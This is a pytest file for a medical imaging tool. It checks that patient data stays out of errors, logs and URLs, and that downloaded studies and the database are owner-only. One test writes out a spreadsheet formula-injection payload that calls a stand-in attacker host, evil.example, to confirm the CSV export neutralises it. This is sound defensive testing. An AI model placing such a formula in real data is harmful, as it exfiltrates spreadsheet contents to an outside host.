"""Patient data must not leak: into error text and server logs, to other local users' eyes, into spreadsheets."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat
import subprocess
import sys
import urllib.request
from pathlib import Path

import pytest
from sqlalchemy import insert
from sqlalchemy.exc import IntegrityError

from mi2b2.adapters.db.engine import transaction
from mi2b2.adapters.db.tables import User
from mi2b2.api.app import create_app
from mi2b2.config import load_config
from mi2b2.domain.principal import Principal, Role
from mi2b2.services.context import build_context
from mi2b2.testing import FakeClock
from support.pacs import free_port
from support.server import start_server
from support.site import load_site, write_site
from support.viewing import serving

ROOT = Principal("root", Role.ADMIN)
SECRET_NAME = "SECRET^PATIENT"
SECRET_MRN = "SECRET-MRN-4242"


def test_statement_parameters_stay_out_of_database_errors(tmp_path: Path, database_url: str) -> None:
    ctx = build_context(load_site(tmp_path, database_url=database_url), clock=FakeClock())
    ctx.accounts.add_user(ROOT, "alice", "researcher", None)
    row = {"login": "alice", "display_name": SECRET_NAME, "role": "researcher", "disabled": False,
           "created_at": ctx.clock.now()}
    with pytest.raises(IntegrityError) as failed, transaction(ctx.sessions) as session:
        session.execute(insert(User).values(**row))
    assert SECRET_NAME not in str(failed.value) and "hidden" in str(failed.value)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _private(folder: Path) -> list[str]:
    """Everything under `folder` (and itself) that someone other than the owner could read."""
    return [f"{p} {oct(_mode(p))}" for p in [folder, *folder.rglob("*")] if _mode(p) & 0o077]


def test_the_server_writes_private_files_and_logs_no_patient_data(tmp_path: Path) -> None:
    site = write_site(tmp_path / "site")
    site.write_text(site.read_text().replace(
        "[server]\n", f"[server]\nhttp_port = {free_port()}\n", 1))
    # The code under test, whatever folder the server runs in (a relative PYTHONPATH would not follow it).
    server = start_server(site, env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    try:
        database, cache = site.parent / "mi2b2.db", site.parent / "cache"
        assert _mode(database) == 0o600 and _mode(cache) == 0o700
        assert _private(cache) == []
        ctx = build_context(load_config(site))
        ctx.accounts.add_user(ROOT, "root", "admin", None)
        token = ctx.accounts.create_token(ROOT, "root", "test", 1).secret
        # An unexpected error with a patient id in its statement: the audit trail's table is gone.
        with sqlite3.connect(database) as db:
            db.execute("ALTER TABLE audit_events RENAME TO audit_events_elsewhere")
        request = urllib.request.Request(f"{server.url}/api/v1/audit/search", method="POST",
                                         data=f'{{"patient": "{SECRET_MRN}"}}'.encode(),
                                         headers={"Authorization": f"Bearer {token}",
                                                  "Content-Type": "application/json"})
        with pytest.raises(urllib.error.HTTPError) as answered:
            urllib.request.urlopen(request, timeout=30)
        assert answered.value.code == 500
        assert SECRET_MRN not in answered.value.read().decode()
    finally:
        server.stop()
    log = server.log_text()
    assert "OperationalError" in log  # the failure is in the log, with its frames ...
    assert SECRET_MRN not in log  # ... but not the patient id its statement carried
    assert [p for p in site.parent.glob("mi2b2.db*") if _mode(p) & 0o077] == []


def _mi2b2(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    result = subprocess.run([sys.executable, "-m", "mi2b2", *args], capture_output=True, text=True, timeout=120,
                            check=False, cwd=cwd, env={"PATH": "/usr/bin:/bin", "COLUMNS": "200",
                                                       "PYTHONPATH": os.pathsep.join(sys.path)})
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    return result


def test_downloads_and_decrypted_studies_are_private(tmp_path: Path) -> None:
    from test_download import PASSPHRASE, fill, users

    ctx = build_context(load_site(tmp_path / "site"))
    cached = fill(ctx, tmp_path)
    tokens = users(ctx)
    secret = tmp_path / "passphrase.txt"
    secret.write_text(PASSPHRASE + "\n")
    plain, encrypted, restored = tmp_path / "plain", tmp_path / "encrypted", tmp_path / "restored"
    with serving(create_app(ctx), log_level="critical") as url:
        common = ("--server", url, "--token", tokens["bob"])
        _mi2b2("download", "alpha", "--all", "--to", str(plain), *common, cwd=tmp_path)
        _mi2b2("download", "alpha", "--all", "--to", str(encrypted), "--passphrase-file", str(secret), *common,
               cwd=tmp_path)
    _mi2b2("decrypt", str(encrypted), "--to", str(restored), "--passphrase-file", str(secret), cwd=tmp_path)
    for folder in (plain, encrypted, restored):
        assert len([p for p in folder.rglob("*.dcm*")]) == len(cached)
        assert _private(folder) == []


def test_cli_csv_cannot_carry_a_spreadsheet_formula(tmp_path: Path) -> None:
    site = write_site(tmp_path)
    formula = "=HYPERLINK(\"http://evil.example/?\"&A1)"
    _mi2b2("admin", "user", "add", "eve", "--name", formula, "--no-password", "--config", str(site), cwd=tmp_path)
    listed = _mi2b2("admin", "user", "list", "--format", "csv", "--config", str(site), cwd=tmp_path)
    rows = list(csv.DictReader(io.StringIO(listed.stdout)))
    assert [r["display_name"] for r in rows if r["login"] == "eve"] == ["'" + formula]
    assert _mode(tmp_path / "mi2b2.db") == 0o600  # the CLI, too, creates the database privately


def test_the_python_client_searches_the_audit_trail_without_a_patient_in_the_url(tmp_path: Path) -> None:
    from mi2b2.client import Mi2b2Client

    ctx = build_context(load_site(tmp_path))
    ctx.accounts.add_user(ROOT, "audrey", "auditor", None)
    token = ctx.accounts.create_token(ROOT, "audrey", "test", 1).secret
    urls: list[str] = []
    app = create_app(ctx)

    async def watched(scope: dict, receive, send) -> None:  # type: ignore[no-untyped-def, type-arg]
        if scope["type"] == "http":
            urls.append(scope["path"] + "?" + scope["query_string"].decode())
        await app(scope, receive, send)

    with serving(watched, log_level="critical") as url, Mi2b2Client(url, token) as client:
        client.audit(patient=SECRET_MRN)  # an auditor's patient filter
        found = client.audit(patient=SECRET_MRN)
    assert [e["patient_id"] for e in found] == [SECRET_MRN] * 2  # both searches, each audited with its filter
    assert urls and not any(SECRET_MRN in u for u in urls)
